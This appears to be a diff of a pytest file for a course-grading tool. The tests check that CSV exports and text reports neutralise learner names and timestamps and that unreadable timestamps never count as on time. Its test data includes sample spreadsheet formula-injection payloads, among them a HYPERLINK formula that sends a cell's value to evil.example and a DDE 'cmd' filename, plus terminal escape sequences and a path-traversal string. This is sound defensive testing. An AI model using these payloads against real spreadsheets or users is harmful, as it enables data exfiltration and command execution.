@@ -7,14 +7,15 @@ SQLite gradebook and read back, then exported.
 from __future__ import annotations
 
 import csv
-from datetime import datetime, timezone
+from datetime import datetime, timedelta, timezone
 
 import pytest
 
-from microgradlab_grader import exports
+from microgradlab_grader import exports, report, untrusted
 from microgradlab_grader.exports import LatePolicy, parse_time
 from microgradlab_grader.gradebook import Gradebook, default_url
 from microgradlab_grader.grading import Grade, Verdict
+from microgradlab_grader.untrusted import UNKNOWN_TIME, Unreadable, csv_cell, parse_timestamp
 
 
 def verdict(exercise, points, max_points, passed, delivered=True):
@@ -52,6 +53,7 @@ def class_grades():
 TIMES = {("ann", "02_value"): "2026-12-01 10:00:00.000000 UTC",
          ("ann", "04_backward"): "2026-12-02 09:00:00.000000 UTC",   # 1 started day late
          ("ben", "02_value"): "2026-12-04 12:00:00.000000 UTC",      # 3 started days late
+         ("ben", "04_backward"): "2026-12-01T20:00:00+00:00",        # on time (ISO 8601)
          ("dan", "04_backward"): "2026-12-01 23:59:00 UTC"}           # on time
 DEADLINE = parse_time("2026-12-01 23:59:59 UTC")
 
@@ -83,7 +85,7 @@ def test_timestamps_are_read_as_nbgrader_writes_them():
 
 def test_late_policy_per_started_day_and_cutoff():
     policy = LatePolicy(DEADLINE, penalty_per_day=10, cutoff_days=3)
-    assert policy.days_late(None) == 0
+    assert LatePolicy().days_late(None) == 0                       # no deadline: never late
     assert policy.days_late("2026-12-01 23:00 UTC") == 0
     assert policy.days_late("2026-12-02 00:00:30 UTC") == 1
     assert policy.days_late("2026-12-03 00:00:30 UTC") == 2
@@ -135,7 +137,8 @@ def test_canvas_csv(stored, tmp_path):
 def test_moodle_csv(stored, tmp_path):
     exports.write_all(stored, LatePolicy(DEADLINE, cutoff_days=2), tmp_path)
     rows = {r["username"]: r for r in csv.DictReader(open(tmp_path / "moodle.csv"))}
-    assert list(next(iter(rows.values()))) == ["username", "02_value", "04_backward", "total"]
+    assert list(next(iter(rows.values()))) == ["username", "name", "02_value", "04_backward",
+                                               "total"]
     assert rows["ben"]["02_value"] == "0"            # 3 days late, cut-off 2
     assert rows["ann"]["04_backward"] == "5"         # 1 day late, no per-day penalty
     assert rows["ann"]["total"] == "8"
@@ -164,3 +167,161 @@ def test_report_names_each_mistakes_exercise_and_lists_unrecognised_files(tmp_pa
     assert "matched by case" in text
     report.write_plot(grades, ["04_backward"], tmp_path / "report.png")
     assert (tmp_path / "report.png").stat().st_size > 0
+
+
+# ------------------------------------------------------------------ learner text is data
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]
+
+
+def formula_cells(path) -> list[str]:
+    """Cells a spreadsheet would run: they start a formula and are not plain numbers."""
+    bad = []
+    for row in read(path):
+        for cell in row:
+            if cell.lstrip(" ").startswith(untrusted.FORMULA_START):
+                try:
+                    float(cell)
+                except ValueError:
+                    bad.append(cell)
+    return bad
+
+
+def hidden_characters(path) -> list[str]:
+    """Cells holding a raw control character, line break or bidirectional override."""
+    return [cell for row in read(path) for cell in row if untrusted.visible(cell) != cell]
+
+
+def test_csv_cell_keeps_numbers_and_defuses_formulas():
+    assert [csv_cell(x) for x in (-1.5, 3.0, 7, 0.1 + 0.2, None)] == ["-1.5", "3", "7", "0.3", ""]
+    for text in FORMULAS:
+        assert csv_cell(text).startswith("'"), text
+    assert csv_cell("-1.5") == "'-1.5"            # text that looks like a number stays text
+    assert csv_cell(True) == "True" and csv_cell(float("-inf")) == "'-inf"
+    assert csv_cell("ann\nlee\x1b[31m\u202e") == "ann\\nlee\\x1b[31m\\u202e"
+    assert csv_cell("ann lee") == "ann lee" and csv_cell("Ann_Lee~a36e143c") == "Ann_Lee~a36e143c"
+
+
+def names_attack():
+    """Names (as discovery keeps them) that are formulas or carry hidden characters."""
+    return {"ann": FORMULAS[0], "ben": "-2+3", "cat": "@SUM(A1)", "dan": "line\nbreak\r\x1b[2J"}
+
+
+def test_every_export_defuses_learner_names_and_keeps_numbers(stored, tmp_path):
+    paths = exports.write_all(stored, LatePolicy(DEADLINE, penalty_per_day=10), tmp_path,
+                              names=names_attack())
+    # A score below 0 (points a course might take away) must stay a number.
+    grades = [g for g, _ in stored] + [Grade("ann", "06_mlp", "graded", 4.0, verdicts={
+        "ex06_mlp": verdict("ex06_mlp", -1.5, 4.0, False)})]
+    report.write_csv(grades, ["02_value", "04_backward", "06_mlp"], tmp_path / "grades.csv",
+                     names=names_attack(), extra={(g.student, g.notebook): {
+                         "seed": 7, "timestamp": '=HYPERLINK("x")', "days_late": "unknown"}
+                         for g in grades})
+    for path in [*paths.values(), tmp_path / "grades.csv"]:
+        assert formula_cells(path) == [], path.name
+        assert hidden_characters(path) == [], path.name
+    totals = {r["student"]: r for r in csv.DictReader(open(tmp_path / "totals.csv"))}
+    assert totals["ann"]["name"] == "'" + FORMULAS[0]          # shown, as text
+    assert totals["dan"]["name"] == "line\\nbreak\\r\\x1b[2J"
+    assert totals["ann"]["total"] == "7.2"                      # numbers stay numbers
+    canvas = read(tmp_path / "canvas.csv")
+    assert canvas[2][0] == "'" + FORMULAS[0] and canvas[2][3] == "ann"
+    graded = {(r["student"], r["notebook"]): r
+              for r in csv.DictReader(open(tmp_path / "grades.csv"))}
+    assert graded["ann", "06_mlp"]["score"] == "-1.5" == graded["ann", "06_mlp"]["ex06_mlp"]
+    assert graded["ann", "02_value"]["timestamp"] == "'=HYPERLINK(\"x\")"
+    assert graded["ann", "02_value"]["days_late"] == "unknown"
+
+
+def test_the_formula_attack_works_without_csv_cell(stored, tmp_path):
+    """The control: the same names written by a plain csv.writer start a formula."""
+    with open(tmp_path / "plain.csv", "w", newline="") as handle:
+        writer = csv.writer(handle)
+        for student, name in names_attack().items():
+            writer.writerow([student, name, 3])
+    assert len(formula_cells(tmp_path / "plain.csv")) == 3
+    assert hidden_characters(tmp_path / "plain.csv") != []
+
+
+def test_learner_timestamps_are_read_strictly():
+    assert parse_timestamp("2026-12-01 10:30:00.123456 UTC") == datetime(
+        2026, 12, 1, 10, 30, 0, 123456, tzinfo=timezone.utc)
+    assert parse_timestamp("2026-12-01 10:30:00.123456+00:00") == parse_timestamp(
+        "2026-12-01T10:30:00.123456Z")                            # nbgrader zip_collect, ISO
+    assert parse_timestamp("2026-12-01 11:30:00 Europe/Berlin") == parse_timestamp(
+        "2026-12-01 10:30:00 UTC")
+    assert parse_timestamp("2026-12-01 05:30:00 -0500").hour == 10
+    assert untrusted.submission_time("2026-12-01 10:30 UTC") == "2026-12-01T10:30:00+00:00"
+    for text in ['=HYPERLINK("http://evil.example")', "next tuesday", "01/12/2026 10:30",
+                 "1 Dec 2026 10:30 UTC", "2026-12-01 10:30:00 CEST", "2026-13-01 10:00",
+                 "2026-12-01 24:00", "2026-12-01 10:30 +2500", "", "9" * 5000,
+                 "2026-12-01 10:30 ../../etc/passwd"]:
+        with pytest.raises(Unreadable):
+            parse_timestamp(text)
+    # The deadline is the instructor's: read leniently.
+    assert parse_time("1 Dec 2026 23:59 UTC").day == 1
+
+
+def unknown_row(timestamp=UNKNOWN_TIME):
+    full = {"ex02_value": verdict("ex02_value", 3.0, 3.0, True)}
+    return Grade("eve", "02_value", "graded", 3.0, verdicts=full), timestamp
+
+
+def test_unknown_lateness_is_never_on_time():
+    policy = LatePolicy(DEADLINE, penalty_per_day=10)
+    assert policy.days_late(None) is None and policy.days_late(UNKNOWN_TIME) is None
+    assert policy.days_late("=HYPERLINK(1)") is None             # an old row's raw text too
+    assert policy.apply(8.0, 8.0, UNKNOWN_TIME) is None           # no number: you decide
+    assert policy.apply(8.0, 8.0, None) is None                   # no timestamp.txt at all
+    assert policy.apply(0.0, 8.0, UNKNOWN_TIME) == 0.0            # 0 whatever the lateness
+    assert LatePolicy(DEADLINE).apply(8.0, 8.0, UNKNOWN_TIME) == 8.0   # only reported
+    assert LatePolicy().apply(8.0, 8.0, UNKNOWN_TIME) == 8.0           # no deadline
+
+
+@pytest.mark.parametrize("timestamp", [UNKNOWN_TIME, None, '=HYPERLINK("x")'])
+def test_unknown_lateness_in_every_export(tmp_path, timestamp):
+    zero = Grade("fay", "02_value", "graded", 3.0,
+                 verdicts={"ex02_value": verdict("ex02_value", 0.0, 3.0, False)})
+    rows = [unknown_row(timestamp=timestamp),
+            (Grade("eve", "04_backward", "missing", 8.0), None),        # nothing handed in
+            (zero, timestamp)]                                            # 0 points: 0
+    exports.write_all(rows, LatePolicy(DEADLINE, penalty_per_day=10, cutoff_days=2), tmp_path)
+    totals = {r["student"]: r for r in csv.DictReader(open(tmp_path / "totals.csv"))}
+    assert totals["eve"]["02_value"] == "" and totals["eve"]["total"] == ""
+    assert totals["eve"]["04_backward"] == "0"
+    why = "no timestamp.txt" if timestamp is None else "timestamp.txt is not a time"
+    assert totals["eve"]["notes"] == (f"02_value: lateness unknown ({why}): 3 points before any "
+                                      "late penalty, not exported: decide by hand; "
+                                      "04_backward: missing")
+    assert (totals["fay"]["02_value"], totals["fay"]["notes"]) == ("0", "")
+    canvas = {row[3]: row for row in read(tmp_path / "canvas.csv")[2:]}
+    assert canvas["eve"][5:] == ["", "0"]
+    moodle = {r["username"]: r for r in csv.DictReader(open(tmp_path / "moodle.csv"))}
+    assert (moodle["eve"]["02_value"], moodle["eve"]["total"]) == ("", "")
+
+
+def test_the_unreadable_timestamp_attack_works_if_unknown_counts_as_on_time(monkeypatch):
+    """The control: take the rule away (an unreadable time counts as on time, as before)
+    and the same late row earns full points past the deadline."""
+    policy = LatePolicy(DEADLINE, penalty_per_day=10, cutoff_days=2)
+    row = [unknown_row()]
+    assert exports.entries(row, policy)["eve"]["02_value"].points is None
+    monkeypatch.setattr(exports, "submitted_at", lambda text: parse_timestamp(text)
+                        if text not in (None, UNKNOWN_TIME) else DEADLINE - timedelta(1))
+    assert exports.entries(row, policy)["eve"]["02_value"].points == 3.0
+
+
+def test_report_lines_show_hidden_characters_as_escapes(tmp_path):
+    grades = [Grade("dan", "02_value", "unreadable", 3.0, detail="bad\nline\x1b[2J\u202eevil"),
+              Grade("Ann_Lee~a36e143c", "02_value", "missing", 3.0)]
+    text = report.write_text_report(
+        grades, ["02_value"], tmp_path / "report.txt",
+        unrecognised=["ann/=cmd|' /C calc'!A0.ipynb", "ann/new\nline.ipynb"],
+        notes=["ann/\x1b]0;pwned\x07: a note"], names={"Ann_Lee~a36e143c": "Ann\u202eLee",
+                                                      "dan": "dan"},
+        lateness=["dan 02_value: lateness unknown (timestamp.txt is not a time)"])
+    assert all(untrusted.visible(line) == line for line in text.splitlines())
+    assert "  dan 02_value: unreadable - bad\\nline\\x1b[2J\\u202eevil" in text
+    assert "  ann/new\\nline.ipynb" in text and "  ann/\\x1b]0;pwned\\x07: a note" in text
+    assert "  Ann_Lee~a36e143c: Ann\\u202eLee" in text
+    assert "lateness unknown (timestamp.txt is not a time)" in text
